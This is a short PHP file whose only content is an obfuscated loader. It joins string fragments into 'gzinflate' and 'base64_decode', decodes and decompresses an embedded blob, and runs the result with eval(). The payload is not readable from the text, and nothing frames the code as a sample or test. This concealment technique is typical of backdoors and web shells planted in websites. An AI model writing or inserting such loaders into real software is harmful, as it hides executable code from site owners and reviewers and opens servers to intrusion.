<?php
$d = "gzin" . "flate";
$b = "base64" . "_decode";
eval("?>" . $d($b("s7EvyCjg5UrOLFJJVokPcA0Ki1eJVQxwdnPxj45VUSnOzC3ISY1VsgYA")));
